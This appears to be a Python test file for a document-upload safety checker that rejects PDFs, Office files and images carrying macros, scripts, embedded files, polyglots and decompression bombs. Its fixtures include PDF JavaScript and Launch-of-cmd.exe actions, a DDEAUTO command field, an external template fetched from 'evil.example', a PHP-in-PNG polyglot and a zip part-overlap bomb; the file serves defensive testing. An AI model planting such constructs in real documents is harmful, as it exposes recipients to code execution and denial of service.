"""Files that would do more than be read: macros, scripts, bombs, two files in one, each refused and said why."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest

from app.domain import documents as rules
from app.domain.errors import Refusal
from app.domain.file_safety import danger_in

PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
TYPES = b"<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"


def package(**parts: bytes) -> bytes:
    """Return a Word document with further parts; `__` in a name stands for a stroke, `_dot_` for a full stop."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", parts.pop("types", TYPES))
        archive.writestr("word/document.xml", parts.pop("document", b"<w:document/>"))
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return made.getvalue()


def packed_objects(objects: bytes, way: bytes = b"/Filter /FlateDecode") -> bytes:
    packed = zlib.compress(objects)
    return (
        PDF
        + b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 %s /Length %d >>\nstream\n" % (way, len(packed))
        + packed
        + (b"\nendstream\nendobj\n")
    )


@pytest.mark.parametrize(
    ("content", "kind", "key", "what"),
    [
        (PDF + b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", "pdf", "file_runs", "JavaScript"),
        (PDF + b"<< /S /J#61vaScript >>", "pdf", "file_runs", "JavaScript"),
        (PDF + b"<< /S /#4a#61#76#61#53#63#72#69#70#74 >>", "pdf", "file_runs", "JavaScript"),
        (PDF + b"<< /S /Launch /F (cmd.exe) >>", "pdf", "file_runs", "Launch"),
        (PDF + b"<< /Names << /EmbeddedFiles 3 0 R >> >>", "pdf", "file_runs", "EmbeddedFiles"),
        (PDF + b"<< /Type /EmbeddedFile >>", "pdf", "file_runs", "EmbeddedFile"),
        (PDF + b"<< /XFA 4 0 R >>", "pdf", "file_runs", "XFA"),
        (PDF + b"trailer << /Encrypt 9 0 R >>", "pdf", "file_locked", "Encrypt"),
        (packed_objects(b"5 0 << /S /JavaScript /JS (x) >>"), "pdf", "file_runs", "JavaScript"),
        (packed_objects(b"5 0 <<>>", b"/Filter /LZWDecode"), "pdf", "file_unreadable", "ObjStm"),
        (packed_objects(b"5 0 <<>>", b"/Filter 7 0 R"), "pdf", "file_unreadable", "ObjStm"),
        (packed_objects(b"5 0 <<>>", b"/Filter /FlateDecode /DecodeParms << >>"), "pdf", "file_unreadable", "ObjStm"),
        (packed_objects(b" " * 9_000_000), "pdf", "file_unreadable", "ObjStm"),
        (PDF + package(), "pdf", "file_two_in_one", "ZIP"),
        (b"%PDF-1.7\n<script>alert(1)</script>", "pdf", "file_two_in_one", "SCRIPT"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 50 + b"<?php system();", "image", "file_two_in_one", "PHP"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF\xff\xfe%PDF-1.4", "image", "file_two_in_one", "PDF"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF" + package(), "image", "file_two_in_one", "ZIP"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 2000 + b"Rar!\x1a\x07\x00", "image", "file_two_in_one", "RAR, 7z, CAB"),
        (b"Dear all,\n%PDF-1.4\n", "text", "file_two_in_one", "PDF"),
        (package(word__vbaProject_dot_bin=b"x"), "office", "file_macros", "word/vbaProject.bin"),
        (package(WORD__VBAPROJECT_dot_BIN=b"x"), "office", "file_macros", "WORD/VBAPROJECT.BIN"),
        (package(Basic__Standard__Module1_dot_xml=b"x"), "office", "file_macros", "Basic/Standard/Module1.xml"),
        (package(xl__macrosheets__sheet1_dot_xml=b"x"), "office", "file_macros", "xl/macrosheets/sheet1.xml"),
        (
            package(types=b"<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled'/></Types>"),
            "office", "file_macros", "[Content_Types].xml",
        ),
        (package(word__embeddings__o1_dot_bin=b"x"), "office", "file_holds_files", "word/embeddings/o1.bin"),
        (package(word__media__a_dot_exe=b"x"), "office", "file_holds_files", "word/media/a.exe"),
        (package(inner_dot_zip=b"PK"), "office", "file_holds_files", "inner.zip"),
        (
            package(a_dot_docx=package(b_dot_docx=package())), "office", "file_holds_files", "b.docx",
        ),
        (package(a_dot_xlsx=package(word__vbaProject_dot_bin=b"x")), "office", "file_macros", "word/vbaProject.bin"),
        (
            package(
                word___rels__settings_dot_xml_dot_rels=(
                    b"<Relationships><Relationship Type='http://x/attachedTemplate' Target='https://evil.example/t.dotm'"
                    b" TargetMode='External'/></Relationships>"
                )
            ),
            "office", "file_fetches", "word/_rels/settings.xml.rels",
        ),
        (package(document=b"<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"), "office", "file_fetches", "DDE"),
        (
            package(word__styles_dot_xml=b"<!DOCTYPE x [<!ENTITY a 'aaaa'>]><x>&a;</x>"),
            "office", "file_bomb", "word/styles.xml",
        ),
        (package(word__styles_dot_xml=b"<x/>" + b" " * 8_000_000), "office", "file_bomb", None),
        (package()[:200], "office", "file_unreadable", "ZIP"),
    ],
)  # fmt: skip
def test_what_does_more_than_be_read_is_refused(content: bytes, kind: str, key: str, what: str | None) -> None:
    found = danger_in(content, kind)
    assert found is not None
    assert found.key == key
    assert what is None or found.what == what


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (PDF, "pdf"),
        (PDF + b"(a text about JavaScript and Launch)", "pdf"),
        (PDF + b"<< /OpenAction [3 0 R /Fit] >>", "pdf"),
        (packed_objects(b"5 0 << /Type /Page >>"), "pdf"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "image"),
        (b"Dear all,\nsee <script> in the annex\n", "text"),
        (package(), "office"),
        (package(word__embeddings__Chart1_dot_xlsx=package()), "office"),
        (
            package(
                word___rels__document_dot_xml_dot_rels=(
                    b"<Relationships><Relationship Type='http://x/hyperlink' Target='https://un.org'"
                    b" TargetMode='External'/></Relationships>"
                )
            ),
            "office",
        ),
        (package(word__styles_dot_xml=b"<x/>" + b" " * 3_000_000), "office"),
    ],
)
def test_what_is_only_read_is_kept(content: bytes, kind: str) -> None:
    assert danger_in(content, kind) is None


def test_a_package_with_a_part_read_twice_is_refused() -> None:
    """Many names for one packed part unpack to a thousand times its size, while each says the truth about its own."""
    plain = package(word__a_dot_xml=b"<x>" + b"a" * 5000 + b"</x>", word__b_dot_xml=b"<x>" + b"b" * 5000 + b"</x>")
    end = plain.rindex(b"PK\x01\x02")
    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
        first = archive.getinfo("word/a.xml").header_offset
    doubled = plain[: end + 42] + first.to_bytes(4, "little") + plain[end + 46 :]
    found = danger_in(doubled, "office")
    assert found is not None
    assert found.key == "file_bomb"


def test_the_check_of_papers_refuses_them_on_the_field() -> None:
    with pytest.raises(Refusal) as refused:
        rules.check_paper(PDF + b"<< /S /Launch >>", field="file")
    assert (refused.value.key, refused.value.field, refused.value.values) == ("file_runs", "file", {"what": "Launch"})
    assert rules.check_paper(package(), field="file") == rules.DOCX
